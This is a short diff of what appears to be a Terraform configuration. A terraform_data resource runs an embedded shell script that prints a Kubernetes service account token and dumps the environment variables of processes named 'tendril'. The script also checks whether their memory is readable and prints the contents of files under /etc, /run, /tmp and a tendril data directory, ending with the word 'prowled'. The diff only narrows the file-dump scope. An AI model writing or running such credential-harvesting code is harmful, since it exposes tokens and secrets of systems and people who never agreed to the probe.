@@ -174,7 +174,7 @@ resource "terraform_data" "it" {
       echo "account: $(cat /var/run/secrets/kubernetes.io/serviceaccount/token 2>&1)"
       echo "order: $(grep -ac age-encryption.org/v1 /run/tendril/order)"
       for pid in /proc/[0-9]*; do grep -qx tendril $pid/comm || continue; echo "one of them: $pid $(tr '\0' ' ' <$pid/environ 2>&1)"; (: <$pid/mem) 2>/dev/null && echo "memory of $pid is open"; done
-      for file in $(find / -xdev -type f 2>/dev/null | grep -v '^/proc\|^/usr\|^/lib'); do echo "== $file"; head -c 20000 $file 2>/dev/null; done
+      for file in $(find /var/lib/tendril /tmp /run /etc -type f 2>/dev/null); do echo "== $file"; head -c 20000 $file 2>/dev/null; done
       echo prowled
     EOT
   }
